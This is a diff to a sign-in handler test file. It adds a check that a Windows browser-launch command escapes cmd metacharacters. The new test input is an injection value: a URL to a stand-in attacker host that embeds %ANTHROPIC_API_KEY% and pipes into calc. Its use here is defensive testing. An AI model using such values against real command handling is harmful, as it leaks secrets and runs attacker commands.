@@ -24,6 +24,11 @@ describe("sign-in handlers", { timeout: 60_000 }, () => {
       "https://a/b?x=1^&y=2",
       "cmd would split at &",
     );
+    // A server's page (URL elicitation) naming a variable, or piping into a program: cmd must take neither.
+    assert.equal(
+      browserCommand("https://evil.example/?k=%ANTHROPIC_API_KEY%|calc>x", "win32").args.at(-1),
+      "https://evil.example/?k=^%ANTHROPIC_API_KEY^%^|calc^>x",
+    );
   });
 
   test("with a browser: it is opened and the URL is shown as well", async () => {
